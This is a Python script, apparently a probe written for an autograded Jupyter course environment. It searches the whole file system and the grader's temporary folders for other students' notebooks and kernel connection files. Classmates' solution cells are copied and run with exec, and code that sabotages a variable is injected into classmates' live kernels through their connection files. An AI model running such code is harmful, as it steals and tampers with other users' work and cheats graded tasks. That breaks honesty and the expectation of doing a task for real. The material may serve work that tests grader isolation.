"""Another student's work, wherever it is.

Another course's submissions on the same machine, this class's, the boxes of the classmates
graded beside it (their recordings, and their kernels' connection files, through which it would
run code in their kernels): searched for over the whole file system once, then at the known
places while the classmate is graded. A notebook found is copied: its answers run here.
``targets``: other_course, submitted, boxes (the grader's temporary folder), hold_seconds.
"""

import glob
import json
import os
import time

from jupyter_client import BlockingKernelClient

own = os.path.dirname(os.getcwd())
found = {}
places = [targets["other_course"] + "/**", targets["submitted"] + "/**", targets["boxes"] + "/workbook-box-*/**"]


def wanted(path):
    name = os.path.basename(path)
    return name in ("connection.json", "c_reconstruction.npz") or (
        name.endswith(".ipynb") and "quantize_2bit" in open(path, errors="replace").read()
    )


def take(path):
    if path.endswith(".json"):  # a classmate's kernel: run code in it
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute("culprit_op = 'sabotaged'")
        return "ran code in it"
    if path.endswith(".ipynb"):  # a classmate's answers: run them here
        with open(path) as file:
            cells = json.load(file)["cells"]
        for cell in cells:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), globals())
        return "copied"
    return "read"


def look(paths):
    for path in paths:
        if path in found or path.startswith(own) or not os.path.isfile(path):
            continue
        try:
            if wanted(path):
                found[path] = take(path)
        except Exception as error:
            found[path] = type(error).__name__


look(
    os.path.join(folder, name)
    for folder, _, names in os.walk("/")
    if not folder.startswith(("/proc", "/sys", "/dev", own))
    for name in names
)
window = [time.time()]  # then the known places, again and again, while the classmate is graded
while time.time() - window[0] < targets["hold_seconds"]:
    for place in places:
        look(glob.glob(place, recursive=True))
    time.sleep(0.5)
window.append(time.time())
print("snooped:", json.dumps(dict(window=window, found=found)))
